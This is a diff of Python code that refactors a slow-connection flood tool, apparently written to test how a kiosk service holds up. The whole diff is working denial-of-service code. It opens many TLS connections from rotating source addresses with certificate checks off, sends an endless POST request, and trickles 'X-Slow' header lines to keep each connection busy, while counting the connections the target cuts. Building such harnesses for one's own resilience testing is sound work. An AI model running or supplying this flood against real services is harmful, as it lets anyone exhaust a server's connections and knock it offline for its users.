@@ -61,87 +61,123 @@ def flood(
 ) -> FloodResult:
     """Keep up to ``connections`` slow connections open against ``host:port`` for ``seconds``."""
     _raise_fd_limit(connections + 64)
-    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
-    context.check_hostname = False
-    context.verify_mode = ssl.CERT_NONE
-    selector = selectors.DefaultSelector()
-    held: dict[int, _Conn] = {}
-    result = FloodResult()
+    run = _Flood(host, port, sources, trickle)
     start = time.monotonic()
     end = start + seconds
-    turn = 0
+    try:
+        while time.monotonic() < end and not should_stop():
+            run.open_up_to(connections, end)
+            now = time.monotonic()
+            for key, _events in run.selector.select(timeout=0.05):
+                run.step(key.data, now)
+            run.trickle_all(now)
+    finally:
+        run.close_all()
+    run.result.seconds = round(time.monotonic() - start, 2)
+    return run.result
 
-    def close(conn: _Conn, why: str) -> None:
-        held.pop(conn.sock.fileno(), None)
-        with contextlib.suppress(KeyError, ValueError):
-            selector.unregister(conn.sock)
-        conn.sock.close()
-        result.cut += 1
-        result.errors[why] = result.errors.get(why, 0) + 1
 
-    while time.monotonic() < end and not should_stop():
-        while len(held) < connections and time.monotonic() < end:  # open up to the target
+class _Flood:
+    """The flood's connections, each one step at a time: connected, then a TLS handshake, then a line now and then."""
+
+    def __init__(self, host: str, port: int, sources: Sequence[str], trickle: float) -> None:
+        self.address = (host, port)
+        self.sources = sources
+        self.trickle = trickle
+        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+        self.context.check_hostname = False
+        self.context.verify_mode = ssl.CERT_NONE
+        self.selector = selectors.DefaultSelector()
+        self.held: dict[int, _Conn] = {}
+        self.result = FloodResult()
+        self.turn = 0
+
+    def _error(self, why: str) -> None:
+        self.result.errors[why] = self.result.errors.get(why, 0) + 1
+
+    def open_up_to(self, connections: int, end: float) -> None:
+        """Open connections (from the sources in turn) until ``connections`` are held or one fails."""
+        while len(self.held) < connections and time.monotonic() < end:
             raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
             raw.setblocking(False)
             try:
-                raw.bind((sources[turn % len(sources)], 0))
-                turn += 1
-                raw.connect_ex((host, port))
+                raw.bind((self.sources[self.turn % len(self.sources)], 0))
+                self.turn += 1
+                raw.connect_ex(self.address)
             except OSError as exc:
                 raw.close()
-                result.refused_connect += 1
-                result.errors[type(exc).__name__] = result.errors.get(type(exc).__name__, 0) + 1
+                self.result.refused_connect += 1
+                self._error(type(exc).__name__)
                 break
             conn = _Conn(raw)
-            held[raw.fileno()] = conn
-            selector.register(raw, selectors.EVENT_WRITE, conn)
-        result.held_max = max(result.held_max, len(held))
-        now = time.monotonic()
-        for key, _events in selector.select(timeout=0.05):
-            conn = key.data
-            if conn.sock.fileno() not in held:
-                continue
-            try:
-                if not conn.connected:
-                    error = conn.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
-                    if error:
-                        raise OSError(error, "connect failed")
-                    selector.unregister(conn.sock)
-                    del held[conn.sock.fileno()]
-                    conn.sock = context.wrap_socket(conn.sock, do_handshake_on_connect=False)
-                    conn.connected = True
-                    held[conn.sock.fileno()] = conn
-                    selector.register(conn.sock, selectors.EVENT_READ | selectors.EVENT_WRITE, conn)
-                    result.opened += 1
-                    continue
-                if not conn.shaken:
-                    conn.sock.do_handshake()
-                    conn.shaken = True
-                    result.handshakes += 1
-                    conn.sock.send(b"POST /sync/hello HTTP/1.1\r\n")
-                    conn.next_line = now + trickle
-                    selector.modify(conn.sock, selectors.EVENT_READ, conn)
-                elif not conn.sock.recv(4096):
-                    close(conn, "closed by kiosk")
-            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
-                continue
-            except (OSError, ValueError) as exc:
-                close(conn, type(exc).__name__)
-        for conn in list(held.values()):  # a header line now and then keeps each one "busy"
+            self.held[raw.fileno()] = conn
+            self.selector.register(raw, selectors.EVENT_WRITE, conn)
+        self.result.held_max = max(self.result.held_max, len(self.held))
+
+    def step(self, conn: _Conn, now: float) -> None:
+        """One ready connection's next step; a failure closes it."""
+        if conn.sock.fileno() not in self.held:
+            return
+        try:
+            if not conn.connected:
+                self._wrap(conn)
+            elif not conn.shaken:
+                self._shake(conn, now)
+            elif not conn.sock.recv(4096):
+                self.close(conn, "closed by kiosk")
+        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
+            return
+        except (OSError, ValueError) as exc:
+            self.close(conn, type(exc).__name__)
+
+    def _wrap(self, conn: _Conn) -> None:
+        """The TCP connection is made: TLS goes over it (not yet shaken)."""
+        error = conn.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
+        if error:
+            raise OSError(error, "connect failed")
+        self.selector.unregister(conn.sock)
+        del self.held[conn.sock.fileno()]
+        conn.sock = self.context.wrap_socket(conn.sock, do_handshake_on_connect=False)
+        conn.connected = True
+        self.held[conn.sock.fileno()] = conn
+        self.selector.register(conn.sock, selectors.EVENT_READ | selectors.EVENT_WRITE, conn)
+        self.result.opened += 1
+
+    def _shake(self, conn: _Conn, now: float) -> None:
+        """The TLS handshake, then the first line of a request that never ends."""
+        assert isinstance(conn.sock, ssl.SSLSocket)  # wrapped once connected
+        conn.sock.do_handshake()
+        conn.shaken = True
+        self.result.handshakes += 1
+        conn.sock.send(b"POST /sync/hello HTTP/1.1\r\n")
+        conn.next_line = now + self.trickle
+        self.selector.modify(conn.sock, selectors.EVENT_READ, conn)
+
+    def trickle_all(self, now: float) -> None:
+        """A header line now and then keeps each connection "busy"."""
+        for conn in list(self.held.values()):
             if conn.shaken and now >= conn.next_line:
                 try:
                     conn.sock.send(b"X-Slow-%d: x\r\n" % conn.lines)
                     conn.lines += 1
-                    conn.next_line = now + trickle
+                    conn.next_line = now + self.trickle
                 except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                     pass
                 except OSError as exc:
-                    close(conn, type(exc).__name__)
-    for conn in list(held.values()):
+                    self.close(conn, type(exc).__name__)
+
+    def close(self, conn: _Conn, why: str) -> None:
+        self.held.pop(conn.sock.fileno(), None)
+        with contextlib.suppress(KeyError, ValueError):
+            self.selector.unregister(conn.sock)
         conn.sock.close()
-    selector.close()
-    result.seconds = round(time.monotonic() - start, 2)
-    return result
+        self.result.cut += 1
+        self._error(why)
+
+    def close_all(self) -> None:
+        for conn in list(self.held.values()):
+            conn.sock.close()
+        self.selector.close()
 
 
 def main(argv: Sequence[str] | None = None) -> int:
